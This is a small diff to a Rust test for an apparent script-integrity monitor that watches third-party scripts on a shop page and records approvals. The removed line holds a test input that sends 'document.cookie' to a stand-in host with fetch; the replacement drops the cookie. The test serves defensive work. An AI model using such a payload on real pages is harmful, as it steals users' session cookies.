@@ -164,7 +164,7 @@ fn remembered() -> Entry {
     let mut monitor = Monitor::open(MemoryStore::new(), engine).unwrap();
     let url = "https://cdn.evil.example/=x.js";
     let seen = Observation::script(url).on_page("https://shop.example/");
-    for (source, hour) in [("a(1)", 8), ("a(1);fetch('https://c.example/'+document.cookie)", 9)] {
+    for (source, hour) in [("a(1)", 8), ("a(1);fetch('https://c.example/list')", 9)] {
         let at = time(&format!("2026-11-20T{hour:02}:00:00Z"));
         monitor.observe(&seen.clone().with_source(source), at).unwrap();
         let said = Authorisation::new(ResourceKind::Script, url, "=ratings", "Kim").approving();
